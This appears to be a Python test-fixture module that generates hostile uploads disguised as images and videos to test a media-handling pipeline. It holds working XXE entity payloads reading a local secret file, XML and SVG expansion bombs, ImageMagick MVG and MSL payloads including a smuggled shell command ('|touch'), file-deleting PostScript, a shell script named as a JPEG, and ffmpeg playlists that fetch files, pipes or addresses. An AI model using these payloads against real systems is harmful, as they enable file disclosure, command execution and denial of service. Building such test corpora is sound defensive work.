"""Hostile documents under the names of pictures and videos: drawings, scripts, pages and playlists that reach out."""

from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

from tests.media.hostile_pictures import encoded, laughs

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="{}" height="{}">'


@dataclass(frozen=True, slots=True)
class Outside:
    """What hostile files name: a picture beside our folders, an address at which nobody may call.

    `new` is a file that is not there, and must not come to be.
    """

    secret: Path
    new: Path
    url: str


def documents(outside: Outside) -> dict[str, bytes]:
    """The files by the names that they are uploaded under; no two have the same bytes."""
    texts = {**_references(outside), **_bombs(), **_scripts(outside), **_pages(outside), **_playlists(outside)}
    return {name: text.encode() for name, text in texts.items()} | {
        "wide drawing.svg": '<?xml version="1.0" encoding="utf-16"?>{}</svg>'.format(_svg("")).encode("utf-16"),
        "cut in the middle.svg": _svg("<g>" * 50).encode()[:300],
    }


def sidecars(outside: Outside) -> Mapping[str, bytes]:
    """XMP files that come with a sound photo."""
    entity = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{outside.secret}">]>'
    remote = f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{outside.url}/x.dtd">'
    deep = "<rdf:li>" * 20_000
    rdf = '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    told = '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:description>{}</dc:description>'
    return {
        "laughs.xmp": laughs(),
        "entity.xmp": f"{entity}{rdf}{told.format('&e;')}</rdf:Description></rdf:RDF></x:xmpmeta>".encode(),
        "doctype.xmp": f"{remote}{rdf}</rdf:RDF></x:xmpmeta>".encode(),
        "deep.xmp": f"{rdf}{deep}".encode(),
        "long.xmp": f"{rdf}{told.format('x' * 3_000_000)}</rdf:Description></rdf:RDF></x:xmpmeta>".encode(),
        "noise.xmp": encoded("PNG"),
        "empty.xmp": b"",
    }


def _svg(inside: str, width: object = 100, height: object = 100) -> str:
    return f"{_SVG.format(width, height)}{inside}</svg>"


def _references(outside: Outside) -> dict[str, str]:
    file, url = f"file://{outside.secret}", f"{outside.url}/a.png"
    whole = 'width="100" height="100"'
    filtered, painted = f'<rect {whole} filter="url(#f)"/>', f"<rect {whole}/>"
    entity = f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "{file}">]>'
    named = f'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "x" "{outside.url}/svg.dtd" [<!ENTITY % p SYSTEM "{url}"> %p;]>'
    return {
        "picture of a file.svg": _svg(f'<image href="{file}" {whole}/>'),
        "picture of a path.svg": _svg(f'<image href="{outside.secret}" {whole}/>'),
        "picture of a file, xlink.svg": _svg(f'<image xlink:href="{file}" {whole}/>'),
        "picture of an address.svg": _svg(f'<image href="{url}" {whole}/>'),
        "picture of an address, xlink.svg": _svg(f'<image xlink:href="{url}" {whole}/>'),
        "use of a file.svg": _svg(f'<use href="{file}#a"/><use xlink:href="{url}#a"/>'),
        "paint of an address.svg": _svg(f"<rect {whole} fill=\"url('{url}#a')\" filter='url({file}#f)'/>"),
        "picture in a filter.svg": _svg(f'<filter id="f"><feImage href="{file}"/></filter>{filtered}'),
        "style of an address.svg": _svg(f'<style>@import "{url}"; @font-face {{src: url({url})}}</style>{painted}'),
        "style sheet.svg": f'<?xml-stylesheet href="{url}"?>' + _svg(painted),
        "script.svg": _svg(f"<script href='{url}'>fetch('{url}')</script><rect {whole} onload=\"fetch('{url}')\"/>"),
        "page inside.svg": _svg(f'<foreignObject {whole}><iframe xmlns="http://www.w3.org/1999/xhtml" src="{url}"/>'
                                "</foreignObject>"),
        "entity of a file.svg": entity + _svg("<text>&e;</text>"),
        "entity of an address.svg": named + _svg("<text>a</text>"),
        "included.svg": _svg(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>'),
        "base elsewhere.svg": _svg(f'<g xml:base="{outside.url}/"><image href="a.png" {whole}/></g>'),
        "drawing in a drawing.svg": _svg(f"<image {whole} href=\"data:image/svg+xml;utf8,{_SVG.format(9, 9)}"
                                         f"<image href='{file}'/></svg>\"/>".replace('="http', "='http")),
    }  # fmt: skip


def _bombs() -> dict[str, str]:
    uses = '<g id="a0"><rect width="1" height="1"/></g>' + "".join(
        f'<g id="a{n}">{f"""<use href="#a{n - 1}"/>""" * 10}</g>' for n in range(1, 10)
    )
    laughing = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    blurred = '<feGaussianBlur stdDeviation="500"/><feMorphology radius="500"/>' * 10
    square = 'width="8000" height="8000"'
    turbulent = f'<feTurbulence baseFrequency="0.9" numOctaves="20" {square}/>'
    pattern = '<pattern id="p" width="0.001" height="0.001" patternUnits="userSpaceOnUse"><rect width="1" height="1"/>'
    return {
        "canvas of 900000 x 900000.svg": _svg("", 900_000, 900_000),
        "canvas of 1e308.svg": _svg("", "1e308", "1e308"),
        "uses of itself.svg": _svg('<g id="a"><use href="#a"/></g>'),
        "uses of uses.svg": _svg(uses),
        "drawing that laughs.svg": f'<!DOCTYPE svg [<!ENTITY l0 "lol">{laughing}]>' + _svg("<text>&l9;</text>"),
        "groups inside each other.svg": _svg("<g>" * 50_000 + "</g>" * 50_000),
        "blur without end.svg": _svg(f'<filter id="f">{blurred}</filter><rect {square} filter="url(#f)"/>', 8000, 8000),
        "turbulence.svg": _svg(f'<filter id="f">{turbulent}</filter><rect {square} filter="url(#f)"/>', 8000, 8000),
        "pattern of points.svg": _svg(f'{pattern}</pattern><rect {square} fill="url(#p)"/>', 8000, 8000),
        "dashes of points.svg": _svg('<path d="M0 0H1e6" stroke="red" stroke-dasharray="1e-9"/>'),
        "path without end.svg": _svg(f'<path d="M0 0{"c9 9 9-9 1 1" * 100_000}" stroke="red" stroke-width="50"/>'),
        "mask of itself.svg": _svg('<mask id="m"><rect mask="url(#m)"/></mask><rect mask="url(#m)"/>'),
    }


def _scripts(outside: Outside) -> dict[str, str]:
    """What ImageMagick would obey, under names that it is not known by."""
    secret, new, url = outside.secret, outside.new, outside.url
    mvg = "push graphic-context\nviewbox 0 0 64 48\nimage over 0,0 0,0 '{}'\npop graphic-context\n"
    read = f'<image><read filename="{secret}"/><write filename="{new}"/></image>'
    return {
        "mvg of a file.jpg": mvg.format(secret),
        "mvg of an address.png": mvg.format(f"{url}/a.png"),
        "mvg that runs.gif": mvg.format(f'https://127.0.0.1"|touch "{new}'),
        "mvg that deletes.jpg": mvg.format(f"ephemeral:{secret}"),
        "mvg by label.tif": mvg.format(f"label:@{secret}"),
        "msl that writes.jpg": f'<?xml version="1.0"?>{read}',
        "msl without a head.png": read,
        "name of a file.jpg": f"@{secret}\n",
        "ephemeral.png": f"ephemeral:{secret}",
        "text.tif": f"text:{secret}\n" * 20,
        "xpm.png": '/* XPM */\nstatic char *a[] = {"60000 60000 1 1", "a c red"};\n',
        "msvg.jpg": f'<?xml version="1.0"?><svg><image href="msl:{secret}"/></svg>',
    }  # fmt: skip


def _pages(outside: Outside) -> dict[str, str]:
    postscript = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({outside.new}) (w) file closefile\nshowpage\n"
    pdf = f"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI({outside.url})>>>>endobj\ntrailer<</Root 1 0 R>>\n"
    return {
        "postscript.jpg": postscript,
        "postscript that deletes.tif": postscript.replace("(w) file closefile", "deletefile"),
        "postscript that loops.png": postscript + "{} loop\n",
        "page.jpg": pdf,
        "page.tif": pdf + "%\n",
        "web page.gif": f"<html><body><img src='{outside.url}/a.png'><script>1</script></body></html>",
        "program.jpg": f"#!/bin/sh\ntouch {outside.new}\n",
    }


def _playlists(outside: Outside) -> dict[str, str]:
    secret, url = outside.secret, f"{outside.url}/a.ts"
    m3u8 = "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{}\n#EXT-X-ENDLIST\n"
    concat = "ffconcat version 1.0\nfile '{}'\nduration 9\n"
    port = outside.url.rpartition(":")[2]
    sdp = f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n"
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{url}"\n'
    dash = '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration='
    dash += '"PT9S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{}'
    dash += "</BaseURL></Representation></AdaptationSet></Period></MPD>"
    smil = '<?xml version="1.0"?><smil><body><video src="{}"/></body></smil>'
    return {
        "playlist of an address.mp4": m3u8.format(url),
        "playlist of an address.ts": m3u8.format(url + "?ts"),
        "playlist of a file.mov": m3u8.format(f"file://{secret}"),
        "playlist of a path.avi": m3u8.format(secret),
        "playlist of a list.mkv": m3u8.format(f"concat:{url}|{secret}"),
        "playlist with a key.m2ts": m3u8.format(url).replace("#EXTINF", f"{key}#EXTINF"),
        "list of a file.mp4": concat.format(secret),
        "list of an address.mov": concat.format(url),
        "list of a pipe.ts": concat.format("pipe:0"),
        "stream of packets.mp4": sdp,
        "stream of packets.ts": sdp + "a=x\n",
        "manifest.mp4": dash.format(url),
        "manifest of a file.mkv": dash.format(f"file://{secret}"),
        "presentation.mov": smil.format(url),
        "reference movie.mov": f"RTSPtext\nrtsp://{outside.url.partition('//')[2]}/a\n",
        "windows playlist.wmv": f"[Reference]\nRef1={url}\n",
        "asx.wmv": f'<asx version="3.0"><entry><ref href="{url}"/></entry></asx>',
        "script of subtitles.vob": "# VobSub index file, v7\nid: en, index: 0\n",
    }  # fmt: skip
